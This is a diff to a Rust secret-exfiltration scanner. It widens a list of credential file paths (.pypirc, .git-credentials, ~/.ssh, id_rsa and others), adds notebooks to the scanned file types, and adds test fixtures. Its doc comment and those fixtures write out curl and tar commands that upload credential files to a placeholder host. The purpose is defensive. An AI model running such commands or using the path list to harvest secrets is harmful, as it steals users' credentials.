@@ -340,6 +340,21 @@ const SECRET_SOURCES: &[&str] = &[
     "/.aws/credentials",
     "/.netrc",
     "/.kube/config",
+    "/.pypirc",
+    "/.npmrc",
+    "/.git-credentials",
+    "/.docker/config.json",
+    "/.kaggle",
+    "/.config/gcloud",
+    "/.config/gh/hosts.yml",
+    "~/.netrc",
+    "~/.pypirc",
+    "~/.aws",
+    "~/.kaggle",
+    "'.ssh'",
+    "\".ssh\"",
+    "id_rsa",
+    "id_ed25519",
 ];
 
 /// Reads of the browser's storage: what they hold counts as sent unless the lines around say
@@ -356,14 +371,16 @@ const BEACON_WINDOW: usize = 3;
 /// host is not loopback, with a [`SECRET_SOURCES`] entry on it or within [`BEACON_WINDOW`]
 /// lines (`navigator.sendBeacon('https://x.example/c', JSON.stringify({cookie:
 /// document.cookie}))`, `fetch('https://x.example/i', {body: localStorage.getItem('token')})`,
-/// `run: echo "${{ toJSON(secrets) }}" | curl -d @- https://x.example`). Code, web pages and
-/// CI files; documents are not read. Nothing is run.
+/// `run: echo "${{ toJSON(secrets) }}" | curl -d @- https://x.example`, `curl -X POST
+/// https://x.example/p --data-binary @"$HOME/.pypirc"` in a script, `!curl -F f=@$HOME/.netrc
+/// URL` in a notebook cell). Code, notebooks, web pages and CI files; documents are not read.
+/// Nothing is run.
 pub fn beacons(path: &str, added: &str) -> Vec<WrittenExecFact> {
     let (ext, _) = kind_of(path);
     let code = is_code(path)
         || matches!(
             ext.as_str(),
-            "html" | "htm" | "yml" | "yaml" | "vue" | "svelte" | "astro"
+            "html" | "htm" | "yml" | "yaml" | "vue" | "svelte" | "astro" | "ipynb"
         );
     if !code || added.is_empty() {
         return Vec::new();
@@ -675,6 +692,14 @@ mod tests {
             (
                 "/p/app/util.py",
                 "requests.post('https://x.example.io/e', json=dict(os.environ))\n",
+            ),
+            (
+                "/p/scripts/preflight.sh",
+                "#!/bin/sh\ncurl -s -X POST https://x.example.io/p --data-binary @\"$HOME/.pypirc\"\n",
+            ),
+            (
+                "/p/notebooks/a.ipynb",
+                "!tar czf /tmp/k.tgz ~/.ssh ~/.kaggle && curl -F f=@/tmp/k.tgz https://x.example.io/u\n",
             ),
         ] {
             assert!(
